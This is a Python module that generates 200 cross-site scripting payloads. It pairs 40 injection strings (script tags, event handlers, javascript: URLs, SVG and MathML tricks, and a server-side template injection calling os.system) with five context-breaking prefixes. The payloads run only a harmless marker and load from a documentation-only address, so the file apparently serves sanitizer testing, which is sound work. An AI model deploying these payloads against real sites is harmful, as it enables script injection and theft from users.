"""Two hundred ways to make a page run a script that is not its own."""

from __future__ import annotations

RUN = "window.ran=1"
FAR = "//192.0.2.1/x"
"""An address of the range kept for documents: nobody answers there."""

BARE = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={FAR}></script>",
    f"<script/x>{RUN}</script>",
    f"<script\x00>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror=\"{RUN}\">",
    f"<img src={FAR}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='{RUN}'/></svg>#x\">",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\">",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<link rel=stylesheet href={FAR}>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    f"<meta http-equiv=refresh content=\"0;url={FAR}\">",
    f"<base href={FAR}>",
    f"<form action={FAR}><button autofocus onfocus={RUN}>x</button></form>",
    f"<style>@import '{FAR}';</style>",
    f"<style>*{{background:url({FAR})}}</style>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<template><script>{RUN}</script></template>",
    f"<xss style=animation-name:x onanimationstart={RUN}>",
    f"javascript:{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{% set x = cycler.__init__.__globals__.os.system('{RUN}') %}}{{{{7*7}}}}",
)
"""Each by itself."""

AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea></title></style></script>{}",
    "-->\u2028{}<!--",
)
"""What would end the place that the words stand in, and then begin anew."""

PAYLOADS = tuple(around.format(bare) if "{}" in around else bare for around in AROUND for bare in BARE)
assert len(set(PAYLOADS)) == 200
